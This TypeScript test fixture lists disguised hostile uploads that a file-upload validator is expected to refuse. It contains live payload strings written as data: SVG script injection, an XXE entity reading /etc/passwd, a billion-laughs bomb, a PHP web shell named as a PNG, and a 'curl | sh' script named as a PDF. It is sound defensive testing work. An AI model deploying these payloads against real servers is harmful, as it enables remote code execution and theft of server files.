import { box, number } from '../videos.ts'
import { tiff, zip, zipEntry } from './formats.ts'
import { call, type HostileFile, page, refused } from './hostile-file.ts'

const drawing = (inside: string, before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${call}">${inside}</svg>`
const script = `<script>${call}</script>`
const entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
const laughs = `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50)}">${Array.from(
  { length: 8 },
  (_, level) => `<!ENTITY ${'bcdefghi'[level]} "${`&${'abcdefgh'[level]};`.repeat(10)}">`,
).join('')}]>`

const word = zip(
  zipEntry(
    '[Content_Types].xml',
    Buffer.from('<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
  ),
  zipEntry('word/document.xml', Buffer.from('<w:document/>')),
  zipEntry('word/vbaProject.bin', Buffer.from('AutoOpen')),
)

/** Not a picture, document or clip, under the names and types of some. */
export const disguises: HostileFile[] = [
  refused('a drawing with a script, called a JPEG', 'media', drawing(script), { called: 'a.jpg', type: 'image/jpeg' }),
  refused('a drawing with a script, called a PNG', 'document', drawing(script), { called: 'a.png', type: 'image/png' }),
  refused('a drawing with a page in it, called a WebP', 'note', drawing(`<foreignObject>${page}</foreignObject>`), {
    called: 'a.webp',
    type: 'image/webp',
  }),
  refused('a drawing that reads a file of the server, called HEIC', 'listing', drawing('<text>&x;</text>', entity), {
    called: 'a.heic',
    type: 'image/heic',
  }),
  refused('a drawing of a billion laughs', 'post', drawing('<text>&i;</text>', laughs), {
    called: 'a.svg',
    type: 'image/svg+xml',
  }),
  refused(
    'a drawing that says it is one',
    'vehicle_photo',
    drawing(`<image xlink:href="http://127.0.0.1/"/>`, '<?xml version="1.0"?>'),
  ),
  refused('a drawing behind a byte order mark', 'modification', `\ufeff${drawing(script)}`),
  refused('a page', 'media', page, { called: 'a.jpg', type: 'image/jpeg' }),
  refused('a page that says so', 'document', page, { called: 'a.html', type: 'text/html' }),
  refused('a script', 'post', `/*<*/${call}`, { called: 'a.png', type: 'image/png' }),
  refused(
    'a sheet of XML that becomes a page',
    'receipt',
    `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  ),
  refused(
    'the letters virus scanners are tested with',
    'receipt',
    ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
  ),
  refused(
    'a program for Windows',
    'media',
    Buffer.concat([
      Buffer.from('MZ\x90\0'),
      Buffer.alloc(56),
      number(0x80000000),
      Buffer.alloc(64),
      Buffer.from('PE\0\0'),
    ]),
    { called: 'holiday.jpg', type: 'image/jpeg' },
  ),
  refused(
    'a program for Linux',
    'document',
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(120)]),
    { called: 'scan.pdf', type: 'application/pdf' },
  ),
  refused('a program for the shell', 'guide', '#!/bin/sh\ncurl example.org | sh\n', {
    called: 'guide.pdf',
    type: 'application/pdf',
  }),
  refused('an archive', 'media', zip(zipEntry('a.txt', Buffer.from('a'))), { called: 'a.jpg', type: 'image/jpeg' }),
  refused('a Java archive', 'post', zip(zipEntry('META-INF/MANIFEST.MF', Buffer.from('Main-Class: A'))), {
    called: 'a.gif',
    type: 'image/gif',
  }),
  refused('a letter with macros', 'document', word, { called: 'letter.pdf', type: 'application/pdf' }),
  refused(
    'an old letter with macros',
    'guide',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    { called: 'a.pdf' },
  ),
  refused('a program for PHP', 'business', `<?php system($_GET['c']); ?>`, {
    called: 'logo.php.png',
    type: 'image/png',
  }),
  refused('a PostScript program', 'receipt', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file', { called: 'a.pdf' }),
  refused('a font', 'media', Buffer.concat([Buffer.from('wOF2'), number(0x00010000), Buffer.alloc(100)])),
  refused('WebAssembly', 'media', Buffer.from('0061736d01000000', 'hex')),
  refused(
    'a HEIC picture',
    'media',
    Buffer.concat([box('ftyp', 'heic', number(0), 'mif1heic'), box('meta', number(0))]),
  ),
  refused(
    'a HEIC picture that says it is AVIF',
    'media',
    Buffer.concat([
      box('ftyp', 'avif', number(0), 'mif1heic'),
      box('meta', number(0), box('hdlr', number(0, 0), 'pict')),
    ]),
  ),
  refused(
    'a TIFF',
    'media',
    tiff([
      [256, 10],
      [257, 10],
    ]),
    { type: 'image/jpeg' },
  ),
  refused('a bitmap with a script', 'media', Buffer.concat([Buffer.from('BM'), Buffer.alloc(52), Buffer.from(page)])),
  refused('an icon', 'media', Buffer.from('0000010001001010000001002000680400001600000000', 'hex')),
  refused('a PDF where only pictures are', 'note', '%PDF-1.7\n%%EOF', { called: 'a.jpg', type: 'image/jpeg' }),
  refused(
    'a clip where only papers are',
    'document',
    Buffer.concat([box('ftyp', 'isom', number(512), 'isommp42'), box('mdat', 'x')]),
  ),
  refused('a sound', 'post', Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\0\0'), Buffer.from('fffb90640000', 'hex')])),
]
